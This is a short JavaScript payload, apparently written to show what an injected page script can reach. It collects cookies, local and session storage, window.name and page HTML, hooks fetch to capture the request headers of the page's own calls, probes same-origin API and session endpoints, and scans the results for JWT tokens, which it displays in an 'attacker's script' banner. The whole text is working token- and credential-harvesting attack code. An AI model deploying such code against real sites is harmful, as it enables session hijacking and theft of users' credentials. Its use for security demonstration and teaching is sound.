// Searches everything that a script of the page can read for tokens and cookies.
(async () => {
  const loot = (window.loot = { sent: [], answers: [] });
  loot.cookies = document.cookie;
  loot.storage = JSON.stringify([{ ...localStorage }, { ...sessionStorage }, history.state, window.name]);
  loot.page = document.documentElement.outerHTML;
  const own = window.fetch;
  // Intercepts the requests of the page's own scripts from now on.
  window.fetch = (...call) => {
    const request = new Request(...call);
    loot.sent.push([...request.headers].join("\n"));
    return own(request);
  };
  const banner = document.createElement("p");
  banner.className = "note bad";
  document.body.prepend(banner);
  const look = () => {
    const tokens = new Set(JSON.stringify(loot).match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g));
    banner.textContent = `The attacker's script runs here. Tokens found: ${tokens.size}. Cookies: ${loot.cookies || "none"}.`;
  };
  look();
  setInterval(look, 500);
  for (const path of ["/", "/session", "/sessions", "/api1/data", "/api1/report", "/api2/data", "/docs", "/openapi.json"]) {
    const answer = await own(path).catch(() => null);
    if (answer) loot.answers.push(path, [...answer.headers].join("\n"), await answer.text());
  }
  loot.done = true;
})();
